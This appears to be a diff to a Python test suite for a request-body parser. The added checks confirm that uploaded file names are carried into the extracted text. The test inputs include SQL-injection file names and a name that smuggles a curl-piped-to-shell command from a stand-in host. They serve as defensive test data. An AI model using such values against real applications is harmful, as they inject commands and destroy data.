@@ -257,6 +257,13 @@ def test_body_text_leaves_out_plain_keys_and_file_metadata() -> None:
     assert value["doc"] == [{"filename": "a.txt", "content_type": "text/plain", "size": 5, "text": "world"}]
     _, text = parse_body(_multipart([("doc", ("a.txt", "text/plain", b"hello"))]), MULTIPART["content-type"], limits)
     assert text == "hello"
+    # a file name that is not a plain identifier is user text the app stores and reads: judged before the content
+    for name in ("x'; DROP TABLE users; --.txt", "$(curl evil.example | sh).txt", "quarterly report.pdf"):
+        _, text = parse_body(_multipart([("doc", (name, "text/plain", b"hello"))]), MULTIPART["content-type"], limits)
+        assert text == f"{name}\nhello"
+    _, text = parse_body(_multipart([("pic", ("x'; DROP TABLE t; --.png", "image/png", b"\x89PNG\xff"))]),
+                         MULTIPART["content-type"], limits)
+    assert text == "x'; DROP TABLE t; --.png"  # a binary part's content is not read; its name is
 
 
 def test_parse_units() -> None:
